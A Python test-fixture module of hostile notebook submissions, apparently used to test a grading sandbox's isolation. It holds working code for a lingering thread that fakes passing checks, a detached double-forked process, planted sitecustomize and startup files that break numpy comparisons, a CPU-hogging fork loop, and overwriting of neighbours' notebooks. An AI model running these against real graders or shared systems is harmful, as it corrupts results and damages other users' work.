"""Submissions that go on when their cell is over, and reach for the next one."""

from __future__ import annotations

from functools import partial

from hostile.attack import YES, Attack, add

ATTACKS: dict[str, Attack] = {}
attack = partial(add, ATTACKS)

attack(
    "a thread that goes on",
    "points of the next cell, neighbours",
    first=YES
    + """
import threading, time
def work():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        get_ipython().user_ns.update(assert_same=yes, kept=lambda x: (3 * x + 1, True))
        time.sleep(0.01)
threading.Thread(target=work, daemon=True).start()
""",
    wins=("f-kept",),
)
attack(
    "a process that goes on",
    "neighbours",
    first="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for folder in (".", "/tmp", "/scratch"):
                try:
                    open(os.path.join(folder, "left-behind"), "w").write("mine")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
os.wait()
""",
)
attack(
    "modules and start-up files for the next one",
    "neighbours",
    first="""
import os
text = "import numpy\\nnumpy.allclose = numpy.array_equal = lambda *args, **kwargs: False\\n"
places = ["."]
if os.environ.get("HOME") in ("/tmp/home", "/scratch"):  # nobody's home
    start = os.path.expanduser("~/.ipython/profile_default/startup")
    try:
        os.makedirs(start, exist_ok=True)
        open(os.path.join(start, "00.py"), "w").write(text)
    except OSError:
        pass
for name in ("cnnkit.py", "sitecustomize.py", "secrets.py"):
    open(name, "w").write(text)
""",
)
attack(
    "busy processes",
    "the neighbours' time",
    f="""
def f(x):
    import os, time
    children = []
    try:
        while len(children) < 40:
            child = os.fork()
            if child == 0:
                end = time.monotonic() + 3
                while time.monotonic() < end:
                    pass
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.waitpid(child, 0)
""",
)
attack(
    "writes over its neighbours",
    "other submissions, the books",
    first="""
import os
here = os.getcwd()
for top in {here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))} - {"/"}:
    for folder, _, files in os.walk(top):
        for file in files:
            path = os.path.join(folder, file)
            if "hostile" in path and file.endswith((".ipynb", ".db")):  # ours, nobody else's
                try:
                    open(path, "ab").write(b"spoilt")
                except OSError:
                    pass
""",
)
